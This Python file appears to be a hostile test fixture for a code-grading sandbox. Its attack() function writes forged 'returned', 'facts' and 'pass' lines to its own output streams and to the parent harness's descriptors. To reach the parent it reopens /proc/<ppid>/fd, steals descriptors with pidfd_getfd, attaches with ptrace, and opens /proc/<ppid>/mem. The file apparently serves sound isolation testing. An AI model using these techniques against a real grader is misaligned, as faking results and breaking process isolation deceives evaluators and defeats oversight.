import ctypes
import os

import hostile_kit

PIDFD_GETFD = 438  # the same number on every architecture


def add(a, b):
    return a + b


def total(numbers):
    return sum(numbers)  # the source rule forbids sum(): forged facts would hide this call


def _payload(guess):
    lines = ['{"op":"result","id":"c%d","status":"returned","value":{"t":"str","v":"%s"}}' % (n, guess)
             for n in range(1, 6)]
    lines.append('{"op":"facts","ok":true,"calls":[],"imports":[],"constructs":[],"functions":[],"names":[]}')
    lines.append('{"version":3,"status":"pass","tests":[{"name":"attack","status":"pass"}]}')
    return ("\n".join(lines) + "\n").encode()


def _write_proc_fds(ppid, payload):
    """Reopens each of the harness's descriptors through /proc and writes forged replies into it."""
    try:
        fds = sorted(os.listdir("/proc/%d/fd" % ppid), key=int)
    except OSError as e:
        return {"listing": "%s: %s" % (type(e).__name__, e)}
    wrote = {}
    for fd in fds:
        def attempt(fd=fd):
            w = os.open("/proc/%d/fd/%s" % (ppid, fd), os.O_WRONLY | os.O_NONBLOCK)
            try:
                return os.write(w, payload)
            finally:
                os.close(w)
        wrote[fd] = hostile_kit.outcome(attempt)
    return wrote


def _steal_fds(ppid, payload):
    """Copies the harness's descriptors with pidfd_getfd and writes forged replies into each."""
    libc = ctypes.CDLL(None, use_errno=True)
    try:
        pidfd = os.pidfd_open(ppid)
    except OSError as e:
        return {"pidfd_open": "%s: %s" % (type(e).__name__, e)}
    stolen = {}
    try:
        for target in range(0, 12):
            fd = libc.syscall(PIDFD_GETFD, pidfd, target, 0)
            if fd < 0:
                stolen[str(target)] = os.strerror(ctypes.get_errno())
                continue
            try:
                stolen[str(target)] = hostile_kit.outcome(lambda: os.write(fd, payload))
            finally:
                os.close(fd)
    finally:
        os.close(pidfd)
    return stolen


def _ptrace(ppid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, ppid, 0, 0) != 0:  # PTRACE_ATTACH
        errno = ctypes.get_errno()
        raise OSError(errno, os.strerror(errno))
    os.waitpid(ppid, 0x40000000)  # __WALL
    libc.ptrace(17, ppid, 0, 0)  # PTRACE_DETACH
    os.kill(ppid, 18)  # SIGCONT: the attach stopped it
    return "attached"


def _write_mem(ppid):
    with open("/proc/%d/mem" % ppid, "r+b"):
        return "opened for writing"


def attack(token):
    payload = _payload("forged-" + token)
    ppid = os.getppid()
    print(payload.decode(), end="", flush=True)
    os.write(2, payload)
    os.write(4, payload)  # the faulthandler pipe
    found = {
        "proc_fd": _write_proc_fds(ppid, payload),
        "pidfd_getfd": _steal_fds(ppid, payload),
        "ptrace": hostile_kit.outcome(lambda: _ptrace(ppid)),
        "proc_mem": hostile_kit.outcome(lambda: _write_mem(ppid)),
    }
    hostile_kit.report(**found)
    # the result pipe is this child's own: a forged line there only claims what it could return
    os.write(3, b'{"status":"returned","value":{"t":"str","v":"forged-' + token.encode() + b'"}}\n')
    os._exit(0)
